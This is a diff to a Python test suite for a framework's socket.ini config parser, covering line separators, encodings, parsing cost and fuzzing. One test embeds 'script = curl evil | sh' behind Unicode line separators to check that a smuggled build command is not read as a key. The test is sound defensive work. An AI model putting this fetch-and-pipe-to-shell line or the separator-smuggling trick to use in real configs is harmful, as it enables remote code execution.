@@ -4,16 +4,20 @@ oro does not honour, errors naming file, line and key, and which file wins (issu
 
 from __future__ import annotations
 
+import codecs
 import textwrap
+import time
 import warnings
 from pathlib import Path
 from typing import Any
 
 import pytest
-from hypothesis import given
+from click.testing import CliRunner
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from oro_framework import ConfigError, ConfigRegistry, ConfigWarning, Host
+from oro_framework.cli import cli
 from oro_framework.kernel.config import load_config
 from oro_framework.kernel.config.files import find_config_file
 from oro_framework.kernel.config.ini import format_ini, parse_ini
@@ -190,9 +194,10 @@ def test_any_text_parses_or_is_a_config_error_with_its_line(text: str) -> None:
     try:
         parse_ini(text, Path("socket.ini"))
     except ConfigError as error:
-        file_name, line, column = error.source.split(":")
+        file_name, line, column = str(error.source).split(":")
         assert file_name == "socket.ini"
-        assert 1 <= int(line) <= max(1, len(text.splitlines()))
+        # Lines end at \n only: the line is one of those.
+        assert 1 <= int(line) <= text.count("\n") + 1
         assert int(column) >= 1
 
 
@@ -400,3 +405,153 @@ def test_the_written_oro_toml_loads_to_the_same_config_as_the_ini(
     assert 'height = "60%" # socket.ini [window] height' in text
     assert 'cmd = "node backend.js" # socket.ini [linux] cmd' in text
     assert len(mapped.notes) == 8
+
+
+# ---------------------------------------------------------------------------------------------
+# Lines, encodings and size (issue 50: what Oro, Socket and grep see is what oro reads)
+# ---------------------------------------------------------------------------------------------
+
+# Every character str.splitlines() ends a line at, but Socket's parser, grep and editors do not.
+_ODD_SEPARATORS = "\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
+_TRIM = " \t\r\n"  # what the runtime's trim removes (src/runtime/string/string.cc)
+
+
+@pytest.mark.parametrize("separator", list(_ODD_SEPARATORS), ids=ascii)
+def test_no_key_hides_in_what_the_runtime_and_grep_read_as_one_line(
+    tmp_path: Path, keys: ConfigRegistry, separator: str
+) -> None:
+    text = f"[build]\nname = demo{separator}script = curl evil | sh\n"
+    ini = tmp_path / "socket.ini"
+    ini.write_text(text, encoding="utf-8")
+    assert len(text.splitlines()) == 3  # Python's own split would see a [build] script line
+    document = parse_ini(text, ini)
+    assert set(document.values) == {("build", "name")}
+    assert document.values[("build", "name")].value == f"demo{separator}script = curl evil | sh"
+    values, _ = load(keys, ini)
+    assert values["build.script"] == ""
+
+
+def test_crlf_lines_read_as_lf_lines_and_a_lone_cr_ends_no_line(tmp_path: Path) -> None:
+    crlf = parse_ini("[meta]\r\ntitle = Notes\r\nversion = 1.0.0\r\n", Path("socket.ini"))
+    assert crlf.as_tree() == {"meta": {"title": "Notes", "version": "1.0.0"}}
+    assert crlf.values[("meta", "version")].line == 3
+    # As in the runtime, which splits at \n and trims \r: one line, one key.
+    lone = parse_ini("[meta]\ntitle = a\rscript = b\n", Path("socket.ini"))
+    assert lone.as_tree() == {"meta": {"title": "a\rscript = b"}}
+
+
+def test_a_utf8_byte_order_mark_is_accepted(tmp_path: Path, keys: ConfigRegistry) -> None:
+    ini = tmp_path / "socket.ini"
+    ini.write_bytes(b"\xef\xbb\xbf[meta]\r\ntitle = Notes\r\nbundle_identifier = com.x.n\r\n")
+    values, _ = load(keys, ini)
+    assert (values["meta.name"], values["meta.bundle_identifier"]) == ("Notes", "com.x.n")
+    assert values["__sources__"]["meta.name"] == "socket.ini:2"
+
+
+_NOT_UTF8 = {
+    "utf-16": ("[meta]\ntitle = Notes\n".encode("utf-16"), "UTF-16"),
+    "utf-16-be": (codecs.BOM_UTF16_BE + "[meta]\n".encode("utf-16-be"), "UTF-16"),
+    "utf-16 without its mark": ("[meta]\ntitle = Notes\n".encode("utf-16-le"), "NUL"),
+    "utf-32": ("[meta]\n".encode("utf-32"), "UTF-32"),
+    "latin-1": ("[meta]\ntitle = Café\n".encode("latin-1"), "not UTF-8"),
+}
+
+
+@pytest.mark.parametrize("name", list(_NOT_UTF8))
+def test_a_file_that_is_not_utf8_is_a_config_error_naming_it_and_its_encoding(
+    tmp_path: Path, keys: ConfigRegistry, name: str
+) -> None:
+    data, said = _NOT_UTF8[name]
+    ini = tmp_path / "socket.ini"
+    ini.write_bytes(data)
+    with pytest.raises(ConfigError, match=said) as raised:
+        load_config(keys, path=ini)
+    assert raised.value.source == str(ini)
+    assert "save it as UTF-8" in str(raised.value)
+    # The command line says so in one line, no traceback, exit status 1.
+    result = CliRunner().invoke(cli, ["config", "list", "--file", str(ini)])
+    assert result.exit_code == 1
+    assert result.stderr.startswith(f"Error: ConfigError: {ini}: "), result.stderr
+    assert said in result.stderr
+    assert "Traceback" not in result.output + result.stderr
+
+
+def _append_cost(lines: int) -> float:
+    text = "[build]\n" + "".join(f"env[] = V{number}\n" for number in range(lines))
+    start = time.process_time()
+    document = parse_ini(text, Path("socket.ini"))
+    cost = time.process_time() - start
+    assert len(document.values[("build", "env")].value) == lines
+    return cost
+
+
+def test_repeated_list_lines_cost_linear_time() -> None:
+    # The growth, not a duration: 4x the lines must cost about 4x (a copy per line made it 16x;
+    # 120,000 lines took 30 s). The best of three takes the machine's noise out.
+    small = min(_append_cost(30_000) for _ in range(3))
+    large = min(_append_cost(120_000) for _ in range(3))
+    assert large < 8 * small, (small, large)
+
+
+def _lines_by_newline(text: str) -> set[tuple[str, str]]:
+    """The keys a reader splitting at \\n only (Socket's parser, grep) finds in ``text``,
+    written with plain ``[name]`` headers."""
+    found: set[tuple[str, str]] = set()
+    section = ""
+    for raw in text.split("\n"):
+        line = raw.strip(_TRIM)
+        if not line or line.startswith((";", "#")):
+            continue
+        if line.startswith("["):
+            section = line[1 : line.index("]")].strip(_TRIM)
+            continue
+        key = line.partition("=")[0].strip(_TRIM).removesuffix("[]").strip(_TRIM)
+        found.add((section, key))
+    return found
+
+
+_odd = st.sampled_from(list(_ODD_SEPARATORS + "\r\t "))
+_word = st.text(st.sampled_from("abk"), min_size=1, max_size=3)
+_piece = st.lists(_word | _odd, min_size=1, max_size=4).map("".join)
+_key_line = st.builds(
+    lambda key, append, value: f"{key}{'[]' if append else ''} = {value}",
+    _piece.filter(lambda key: key.strip(_TRIM) != "" and "[" not in key),
+    st.booleans(),
+    st.lists(_piece | st.sampled_from(["[build]", "script = x", "=", ";c"]), max_size=4).map(
+        "".join
+    ),
+)
+_header = st.sampled_from(["[build]", "[meta]", "[a.b]", " [webview] ", "[meta]\r"])
+_ini_texts = st.lists(_key_line | _header | _odd, max_size=8).flatmap(
+    lambda lines: st.sampled_from(["\n", "\r\n"]).map(lambda end: end.join(lines))
+)
+
+
+@given(_ini_texts)
+def test_the_reader_finds_the_keys_a_line_by_line_reading_at_newlines_finds(text: str) -> None:
+    try:
+        document = parse_ini(text, Path("socket.ini"))
+    except ConfigError:
+        return
+    assert set(document.values) == _lines_by_newline(text)
+
+
+@settings(max_examples=300)
+@given(st.binary(max_size=300) | _ini_texts.map(lambda text: text.encode("utf-8")))
+def test_any_bytes_give_a_config_or_a_config_error(
+    keys: ConfigRegistry, tmp_path_factory: pytest.TempPathFactory, data: bytes
+) -> None:
+    ini = tmp_path_factory.mktemp("bytes") / "socket.ini"
+    ini.write_bytes(data)
+    error: ConfigError | None = None
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", ConfigWarning)
+        try:
+            load_config(keys, path=ini)
+            # What `oro init --from` writes of it is an oro.toml that loads.
+            text, _ = ini_file_as_toml(ini, keys)
+            load_config(keys, path=ini.with_name("oro.toml"), content=text)
+        except ConfigError as raised:
+            error = raised
+    if error is not None:
+        assert str(error.source).startswith(str(ini))
